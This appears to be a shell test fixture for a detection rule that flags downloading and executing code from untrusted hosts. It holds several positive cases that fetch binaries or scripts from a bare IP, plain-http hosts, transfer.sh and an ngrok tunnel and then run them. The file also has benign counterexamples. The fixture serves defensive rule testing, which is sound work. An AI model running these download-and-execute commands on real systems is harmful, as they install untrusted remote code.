#!/bin/bash
# Fixture for sh-download-exec-untrusted-host.
# RULEID: download from a bare IP into the working folder, chmod +x and run (ua-parser-js shape);
#   wget -O over plain http then run with sh; curl --output from a file-drop host run by nohup;
#   download from a tunnel host, then ./ run without chmod.
# OK: https download from a project domain, chmod +x and run; plain-http download never run;
#   IP-literal download verified with sha256sum; localhost download run in a test.

# ruleid: sh-download-exec-untrusted-host
curl http://159.148.186.228/download/jsextension -o jsextension
chmod +x jsextension
./jsextension -k --background &

# ruleid: sh-download-exec-untrusted-host
wget -q -O setup.sh http://updates.example-cdn.net/setup.sh && sh setup.sh

# ruleid: sh-download-exec-untrusted-host
curl -fsSL --output "$HOME/bin/agent" https://transfer.sh/AbCd/agent
chmod 755 "$HOME/bin/agent"
nohup "$HOME/bin/agent" >/dev/null 2>&1 &

# ruleid: sh-download-exec-untrusted-host
curl -sLo helper https://a1b2-203-0-113-9.ngrok-free.app/helper
./helper

# ok: sh-download-exec-untrusted-host
curl -fsSL https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl -o kubectl
chmod +x kubectl
./kubectl version --client

# ok: sh-download-exec-untrusted-host
curl http://archive.example.org/data/dataset.csv -o dataset.csv
python analyse.py dataset.csv

# ok: sh-download-exec-untrusted-host
curl -fsSL http://10.0.0.12/tools/mc -o mc
echo "0f3b5c2a9e8d  mc" | sha256sum -c -
chmod +x mc

# ok: sh-download-exec-untrusted-host
curl -s http://localhost:8080/fixtures/stub -o stub
chmod +x stub
